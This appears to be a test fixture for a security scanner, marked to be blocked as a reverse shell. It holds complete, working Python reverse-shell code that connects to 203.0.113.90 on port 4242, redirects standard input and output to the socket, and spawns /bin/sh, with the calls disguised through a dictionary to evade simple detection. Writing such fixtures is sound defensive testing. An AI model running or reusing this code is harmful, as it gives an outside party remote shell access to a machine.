# expect: BLOCKED reverse_shell
# dict(...).update(...) with keywords holds the shell and the socket plumbing.
import os
import pty
import socket

ops = dict(net=socket.socket)
ops.update(dup=os.dup2, shell=pty.spawn)
s = ops["net"]()
s.connect(("203.0.113.90", 4242))
for fd in (0, 1, 2):
    ops["dup"](s.fileno(), fd)
ops["shell"]("/bin/sh")
